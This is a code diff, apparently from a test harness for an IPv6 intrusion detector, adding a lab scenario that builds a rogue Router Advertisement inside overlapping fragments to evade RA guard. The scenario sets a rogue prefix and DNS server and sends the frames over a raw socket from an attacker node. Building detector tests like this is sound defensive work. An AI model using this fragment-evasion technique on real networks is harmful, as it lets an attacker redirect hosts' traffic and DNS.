@@ -1781,6 +1781,61 @@ def denial6_header_chain(lab: Lab) -> None:
     lab.run_tool("a1", ["atk6-denial6", "eth0", H1.link_local, "4"], 5)
 
 
+# Sends the Ethernet frames listed (hex, one per line) in argv[1] from eth0, 10 ms apart:
+# for packets no tool crafts. Raw sockets need no library.
+_SEND_FRAMES: Final = """
+import socket, sys, time
+s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
+s.bind(("eth0", 0))
+for line in open(sys.argv[1]):
+    s.send(bytes.fromhex(line.strip()))
+    time.sleep(0.01)
+print("sent", flush=True)
+"""
+
+
+@scenario(
+    expect=["ipv6.rogue_ra", "ipv6.ra_guard_evasion", "ipv6.malformed"],
+    sids=[1000101, 1000121, 1000903],
+    evidence=[Evidence("fragments from a1", frames(A1.mac, fragment=True), 3)],
+)
+def overlap_rogue_ra(lab: Lab) -> None:
+    """A rogue RA hidden in overlapping fragments (RFC 5722), sent from a1 three times.
+
+    No tool crafts it, so a1 sends the frames itself (``_SEND_FRAMES``, a raw socket):
+    fragment 0 of an echo request from fe80::a:1 to ff02::1, then an RA from fe80::a:1
+    (prefix 2001:db8:bad::/64, RDNSS 2001:db8:bad::53) in two 48-byte fragments with the
+    same id, whose fragment 0 overlaps the echo's. Hosts keeping the last copy read the RA;
+    v6sentry judges that reading as an RA.
+    """
+    from pcaps.generate import (  # the captures' packet builders; imported when used
+        ALL_NODES,
+        a6,
+        fragment_packets,
+        icmp6,
+        lan,
+        mac,
+        pio,
+        rdnss,
+        slla,
+    )
+
+    start_lan(lab)
+    src, m = a6(A1.link_local), mac(A1.mac)
+    body = struct.pack("!BBHII", 64, 0x08, 1800, 0, 0)
+    body += slla(m) + pio(a6("2001:db8:bad::")) + rdnss(a6("2001:db8:bad::53"))
+    rogue = icmp6(src, ALL_NODES, 134, body)
+    decoy = icmp6(src, ALL_NODES, 128, struct.pack("!HH", 7, 1) + bytes(len(rogue) - 8))
+    sent = []
+    for ident in (0x5722, 0x5723, 0x5724):
+        real = fragment_packets(src, ALL_NODES, 58, rogue, 48, ident)
+        fake = fragment_packets(src, ALL_NODES, 58, decoy, 48, ident)
+        sent += [lan(fake[0], m), *(lan(f, m) for f in real)]
+    listing = lab.workdir / "overlap_frames.hex"
+    listing.write_text("".join(f.hex() + "\n" for f in sent), encoding="ascii")
+    lab.sh("a1", sys.executable, "-c", _SEND_FRAMES, str(listing))
+
+
 # -- recording -----------------------------------------------------------------------
 
 
